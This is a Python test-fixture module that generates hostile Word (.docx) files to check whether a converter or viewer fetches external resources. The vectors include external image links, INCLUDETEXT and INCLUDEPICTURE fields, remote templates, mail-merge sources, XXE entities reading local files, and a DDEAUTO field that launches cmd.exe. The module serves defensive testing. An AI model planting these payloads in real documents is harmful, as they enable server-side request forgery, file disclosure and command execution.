"""Word documents as somebody hostile makes them: each reaches outside itself in one way, and prints a word at its end."""

from __future__ import annotations

import zipfile
from collections.abc import Mapping
from pathlib import Path
from xml.sax.saxutils import quoteattr

SECRET = "CANARISECRET"  # noqa: S105 (what must not be shown)
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG = "http://schemas.openxmlformats.org/package/2006"
_NAMES = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    f'xmlns:r="{_R}" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
)
_TYPES = (
    f'<?xml version="1.0"?><Types xmlns="{_PKG}/content-types">'
    f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>'
    '<Default Extension="svg" ContentType="image/svg+xml"/><Default Extension="html" ContentType="text/html"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    '<Override PartName="/word/settings.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/></Types>'
)


def package(
    path: Path,
    body: str = "",
    links: str = "",
    settings: tuple[str, str] = ("", ""),
    more: Mapping[str, str] | None = None,
    head: str = "",
) -> Path:
    """Write a .docx: ``links`` of its body, ``settings`` (XML, its links), ``more`` parts, ``head`` before the root."""
    parts = {
        "[Content_Types].xml": _TYPES,
        "_rels/.rels": _links(f'<Relationship Id="r1" Type="{_R}/officeDocument" Target="word/document.xml"/>'),
        "word/_rels/document.xml.rels": _links(link("s", "settings", "settings.xml") + links),
        "word/document.xml": f'<?xml version="1.0"?>{head}<w:document {_NAMES}><w:body><w:p><w:r><w:t>DEBUT</w:t></w:r></w:p>'
        f"{body}<w:p><w:r><w:t>FIN</w:t></w:r></w:p></w:body></w:document>",
        "word/settings.xml": f'<?xml version="1.0"?><w:settings {_NAMES}>{settings[0]}</w:settings>',
        "word/_rels/settings.xml.rels": _links(settings[1]),
        **(more or {}),
    }
    with zipfile.ZipFile(path, "w") as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return path


def hostile_documents(folder: Path, web: str, picture: Path, text: Path, document: Path) -> dict[str, Path]:
    """Write every hostile document into ``folder``; return them by the way in which each reaches outside.

    ``web`` is an address, ``picture``, ``text`` and ``document`` are files that no document may show.
    """
    shown, included = picture.as_uri(), document.as_uri()
    ole = (
        '<w:p><w:r><w:object><v:shape id="s1" style="width:9pt;height:9pt"/><o:OLEObject Type="Link" UpdateMode="Always" '
        'ProgID="Word.Document.12" ShapeID="s1" DrawAspect="Content" ObjectID="_1" r:id="x"/></w:object></w:r></w:p>'
    )
    vml = '<w:p><w:r><w:pict><v:shape style="width:99pt;height:99pt"><v:imagedata r:{}="x"/></v:shape></w:pict></w:r></w:p>'
    chunk = (
        f'<html><body>x<img src="{web}/c.png"><img src="{shown}"><iframe src="{text.as_uri()}"></iframe></body></html>'
    )
    entities = f'<!DOCTYPE d [<!ENTITY e SYSTEM "{text.as_uri()}"><!ENTITY h SYSTEM "{web}/e">]>'
    made = {
        "linked picture, web": (_drawing("link"), outside("image", f"{web}/p.png")),
        "linked picture, file": (_drawing("link"), outside("image", shown)),
        "embedded picture, web": (_drawing("embed"), outside("image", f"{web}/q.png")),
        "embedded picture, file": (_drawing("embed"), outside("image", shown)),
        "vml picture, web": (vml.format("href"), outside("image", f"{web}/v.png")),
        "vml picture, file": (vml.format("id"), outside("image", shown)),
        "INCLUDEPICTURE": (field(f'INCLUDEPICTURE "{web}/i.png" \\d') + field(f'INCLUDEPICTURE "{picture}" \\d'), ""),
        "INCLUDETEXT": (field(f'INCLUDETEXT "{document}"') + field(f'INCLUDETEXT "{web}/i.txt"'), ""),
        "DDE": (
            field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"') + field(f"DDE soffice {document} x"),
            "",
        ),
        "LINK": (field(f'LINK Word.Document.12 "{document}" "" \\a') + field(f'LINK Excel.Sheet "{web}/x" "" \\a'), ""),
        "chunk, web": ('<w:altChunk r:id="x"/>', outside("aFChunk", f"{web}/c.docx")),
        "chunk, file": ('<w:altChunk r:id="x"/>', outside("aFChunk", included)),
        "subdocument, web": ('<w:subDoc r:id="x"/>', outside("subDocument", f"{web}/s.docx")),
        "subdocument, file": ('<w:subDoc r:id="x"/>', outside("subDocument", included)),
        "object, web": (ole, outside("oleObject", f"{web}/o.docx")),
        "object, file": (ole, outside("oleObject", included)),
    }
    found = {n: package(folder / f"{k}.docx", *one) for k, (n, one) in enumerate(made.items())}
    found["html chunk"] = package(
        folder / "chunk.docx", '<w:altChunk r:id="x"/>', link("x", "aFChunk", "c.html"), more={"word/c.html": chunk}
    )
    attached = '<w:attachedTemplate r:id="x"/>', outside("attachedTemplate", f"{web}/t.dotm")
    found["attached template"] = package(folder / "attached.docx", settings=attached)
    merged = '<w:mailMerge><w:dataType w:val="textFile"/><w:dataSource r:id="x"/></w:mailMerge>'
    found["mail merge"] = package(folder / "merge.docx", settings=(merged, outside("mailMergeSource", f"{web}/m.csv")))
    found["entities"] = package(folder / "entities.docx", "<w:p><w:r><w:t>&e;&h;</w:t></w:r></w:p>", head=entities)
    return found


def with_svg(path: Path, svg: str, name: str = "i.svg") -> Path:
    """Write a document that shows an SVG picture."""
    return package(path, _drawing("embed"), link("x", "image", f"media/{name}"), more={f"word/media/{name}": svg})


def svg(inside: str) -> str:
    """Return a picture with ``inside``."""
    space = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    return f'<svg {space} width="200" height="200">{inside}</svg>'


def field(words: str) -> str:
    """Return a paragraph with a field that is to be brought up to date; its words come in two pieces."""
    half = len(words.split(maxsplit=1)[0]) // 2
    pieces = "".join(
        f'<w:r><w:instrText xml:space="preserve">{_escaped(part)}</w:instrText></w:r>'
        for part in (words[:half], words[half:])
    )
    char = '<w:r><w:fldChar w:fldCharType="{}" w:dirty="true"/></w:r>'
    return (
        f"<w:p>{char.format('begin')}{pieces}{char.format('separate')}<w:r><w:t>x</w:t></w:r>{char.format('end')}</w:p>"
    )


def link(name: str, kind: str, target: str, mode: str = "") -> str:
    """Return a relationship of a part."""
    return f'<Relationship Id="{name}" Type="{_R}/{kind}" Target={quoteattr(target)}{mode}/>'


def outside(kind: str, target: str) -> str:
    """Return the relationship « x », which leads out of the document."""
    return link("x", kind, target, ' TargetMode="External"')


def _links(inside: str) -> str:
    return f'<?xml version="1.0"?><Relationships xmlns="{_PKG}/relationships">{inside}</Relationships>'


def _drawing(how: str) -> str:
    size = '<a:ext cx="1800000" cy="1800000"/>'
    return (
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="1800000" cy="1800000"/><wp:docPr id="1" name="p"/><a:graphic>'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr>'
        f'<pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:{how}="x"/><a:stretch>'
        f'<a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/>{size}</a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline>'
        "</w:drawing></w:r></w:p>"
    )


def _escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;")
